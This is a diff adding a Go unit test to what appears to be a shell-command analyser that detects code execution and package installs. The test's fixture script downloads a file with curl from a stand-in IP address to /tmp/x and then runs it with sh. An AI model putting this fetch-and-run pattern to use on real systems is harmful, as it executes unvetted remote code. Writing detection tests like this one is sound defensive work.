@@ -38,6 +38,21 @@ func TestEmptyCommand(t *testing.T) {
 	}
 }
 
+// TestUncalledFunctions checks that functions are read in order: the effects must not depend on the order of a map.
+func TestUncalledFunctions(t *testing.T) {
+	for range 20 {
+		runs := 0
+		for _, a := range CommandsIn("get() { curl -o /tmp/x http://192.0.2.7/a; }\nrun() { sh /tmp/x; }\n") {
+			if a.Does == Runs {
+				runs++
+			}
+		}
+		if runs != 1 {
+			t.Fatalf("%d acts run code, want 1", runs)
+		}
+	}
+}
+
 func TestPackages(t *testing.T) {
 	for text, want := range map[string]string{
 		"pip install requestz": "requestz", `pip install -e "python[all]"`: "", "pip install -r requirements.txt": "", "uv pip install 'a-b[c]>=1'": "a-b",
